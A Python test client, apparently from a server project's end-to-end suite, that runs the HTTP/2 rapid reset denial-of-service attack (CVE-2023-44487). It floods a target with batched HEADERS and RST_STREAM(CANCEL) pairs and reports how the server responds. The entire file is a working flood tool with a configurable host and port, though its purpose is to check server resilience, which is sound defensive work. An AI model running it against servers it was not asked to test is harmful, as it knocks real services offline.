#!/usr/bin/env python3
"""HTTP/2 "rapid reset" (CVE-2023-44487) client for Mizzen's end-to-end tests (needs PyPI h2).

  h2_rapid_reset.py --host H --port P --authority A --streams N [--tls]

Opens one HTTP/2 connection (cleartext prior knowledge unless --tls, which
offers ALPN h2), then sends N HEADERS frames (GET, END_STREAM), each followed
at once by RST_STREAM(CANCEL), in batched writes, reading whatever the server
sends in between. After the last stream it sends a PING and waits for its ACK
(or a GOAWAY / close) plus a short --linger, all within --timeout seconds
(default 20) overall. Prints one JSON line:
  streams_sent, goaway_received, goaway_error_code, goaway_error_name,
  goaway_last_stream_id, connection_closed, ping_acked, responses_received,
  resets_received, bytes_received, error, elapsed
Exit status 0 whenever it ran to the end (whatever the server did); 2 when it
could not connect or the handshake failed.
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "UNKNOWN_%d" % code


class Attack:
    def __init__(self, args):
        self.args = args
        self.started = time.monotonic()
        self.deadline = self.started + args.timeout
        self.result = {
            "host": args.host, "port": args.port, "authority": args.authority, "tls": args.tls,
            "streams_requested": args.streams, "streams_sent": 0,
            "goaway_received": False, "goaway_error_code": None, "goaway_error_name": None,
            "goaway_last_stream_id": None, "connection_closed": False, "ping_acked": False,
            "responses_received": 0, "resets_received": 0, "bytes_received": 0, "error": None, "elapsed": None,
        }
        self.sock = None
        self.conn = h2.connection.H2Connection(config=h2.config.H2Configuration(
            client_side=True, header_encoding=None, validate_inbound_headers=False))

    def remaining(self):
        return self.deadline - time.monotonic()

    def connect(self):
        raw = socket.create_connection((self.args.host, self.args.port),
                                       timeout=max(0.1, min(5.0, self.remaining())))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.args.tls:
            ctx = ssl.create_default_context(cafile=self.args.ca) if self.args.ca \
                else ssl._create_unverified_context()
            ctx.set_alpn_protocols(["h2"])
            server_name = self.args.sni or self.args.authority.rsplit(":", 1)[0]
            raw.settimeout(max(0.1, min(5.0, self.remaining())))
            sock = ctx.wrap_socket(raw, server_hostname=server_name)
            self.result["alpn"] = sock.selected_alpn_protocol()
            if sock.selected_alpn_protocol() != "h2":
                raise ConnectionError("server did not select ALPN h2 (got %r)" % sock.selected_alpn_protocol())
        else:
            sock = raw
        self.sock = sock
        self.conn.initiate_connection()
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if not data:
            return
        self.sock.settimeout(max(0.05, min(5.0, self.remaining())))
        self.sock.sendall(data)

    def pump(self, wait):
        """Reads what is available (waiting up to `wait` s for the first bytes)."""
        if self.result["connection_closed"]:
            return
        wait = max(0.0, min(wait, self.remaining()))
        self.sock.settimeout(wait if wait > 0 else 0.0)
        while True:
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
                return
            except (ConnectionError, ssl.SSLError, OSError) as error:
                self.result["connection_closed"] = True
                self.result["error"] = self.result["error"] or "recv: %s" % error
                return
            if not data:
                self.result["connection_closed"] = True
                return
            if self.result["bytes_received"] == 0 and data.startswith(b"HTTP/"):
                self.result["error"] = self.result["error"] or \
                    "server answered in HTTP/1: %r" % data.split(b"\r\n", 1)[0][:100]
            self.result["bytes_received"] += len(data)
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as error:
                self.result["error"] = self.result["error"] or "protocol: %s" % error
                events = []
            for event in events:
                self.on_event(event)
            try:
                self.flush()
            except OSError:
                pass
            self.sock.settimeout(0.0)

    def on_event(self, event):
        if isinstance(event, h2.events.ConnectionTerminated):
            self.result["goaway_received"] = True
            self.result["goaway_error_code"] = int(event.error_code)
            self.result["goaway_error_name"] = error_name(int(event.error_code))
            self.result["goaway_last_stream_id"] = event.last_stream_id
        elif isinstance(event, h2.events.ResponseReceived):
            self.result["responses_received"] += 1
        elif isinstance(event, h2.events.StreamReset):
            self.result["resets_received"] += 1
        elif isinstance(event, h2.events.PingAckReceived):
            self.result["ping_acked"] = True
        elif isinstance(event, h2.events.DataReceived):
            try:
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
                pass

    def stopped(self):
        return (self.result["goaway_received"] or self.result["connection_closed"]
                or self.remaining() <= 0)

    def run(self):
        headers = [(b":method", b"GET"), (b":scheme", b"https" if self.args.tls else b"http"),
                   (b":authority", self.args.authority.encode()), (b":path", self.args.path.encode()),
                   (b"user-agent", b"mizzen-h2-rapid-reset")]
        # Give the server a moment to send its SETTINGS first.
        self.pump(0.2)
        sent = 0
        while sent < self.args.streams and not self.stopped():
            batch_end = min(self.args.streams, sent + self.args.batch)
            try:
                while sent < batch_end:
                    stream_id = self.conn.get_next_available_stream_id()
                    self.conn.send_headers(stream_id, headers, end_stream=True)
                    self.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
            except h2.exceptions.ProtocolError as error:
                # e.g. GOAWAY already processed, stream ids exhausted, too many streams
                self.result["error"] = "send: %s" % error
                self.result["streams_sent"] = sent
                self.flush_quietly()
                break
            self.result["streams_sent"] = sent
            if not self.flush_quietly():
                break
            self.pump(0.0)

        if not self.stopped():
            try:
                self.conn.ping(b"mizzen!!")
                self.flush()
            except (h2.exceptions.ProtocolError, OSError):
                pass
        # Wait for the PING ACK (the server has read everything) or a GOAWAY/close.
        while not (self.result["ping_acked"] or self.stopped()):
            self.pump(min(0.5, self.remaining()))
        # Linger: a GOAWAY may follow the ACK; after a GOAWAY, wait for the close.
        linger_end = min(self.deadline, time.monotonic() + self.args.linger)
        while time.monotonic() < linger_end and not self.result["connection_closed"]:
            self.pump(min(0.2, linger_end - time.monotonic()))
            if self.result["goaway_received"] and not self.result["connection_closed"]:
                linger_end = min(self.deadline, max(linger_end, time.monotonic() + 0.2))

    def flush_quietly(self):
        try:
            self.flush()
            return True
        except socket.timeout:
            self.result["error"] = self.result["error"] or "send: timed out (server stopped reading)"
            return False
        except (ConnectionError, ssl.SSLError, OSError) as error:
            self.result["connection_closed"] = True
            self.result["error"] = self.result["error"] or "send: %s" % error
            # Read whatever is still buffered (the GOAWAY usually is).
            self.pump(0.2)
            return False


def main():
    parser = argparse.ArgumentParser(description="HTTP/2 rapid reset (HEADERS + RST_STREAM flood) client.")
    parser.add_argument("--host", default="127.0.0.1", help="address to connect to (default 127.0.0.1)")
    parser.add_argument("--port", type=int, required=True, help="port to connect to")
    parser.add_argument("--authority", required=True, help=":authority of every request (and TLS SNI host)")
    parser.add_argument("--streams", type=int, required=True, help="how many HEADERS+RST_STREAM pairs to send")
    parser.add_argument("--path", default="/", help=":path of every request (default /)")
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2 instead of cleartext prior knowledge")
    parser.add_argument("--ca", metavar="PEM", help="trusted CA for --tls (default: no verification)")
    parser.add_argument("--sni", help="TLS server name (default: the authority's host)")
    parser.add_argument("--batch", type=int, default=100, help="stream pairs per write (default 100)")
    parser.add_argument("--linger", type=float, default=1.0,
                        help="seconds to keep reading after the PING ACK (default 1)")
    parser.add_argument("--timeout", type=float, default=20.0, help="overall deadline in seconds (default 20)")
    args = parser.parse_args()

    attack = Attack(args)
    status = 0
    try:
        attack.connect()
    except (OSError, ssl.SSLError, ConnectionError) as error:
        attack.result["error"] = "connect: %s" % error
        status = 2
    if status == 0:
        try:
            attack.run()
        except (OSError, ssl.SSLError) as error:
            attack.result["connection_closed"] = True
            attack.result["error"] = attack.result["error"] or str(error)
    if attack.sock is not None:
        try:
            attack.sock.close()
        except OSError:
            pass
    attack.result["elapsed"] = round(time.monotonic() - attack.started, 3)
    print(json.dumps(attack.result), flush=True)
    sys.exit(status)


if __name__ == "__main__":
    main()
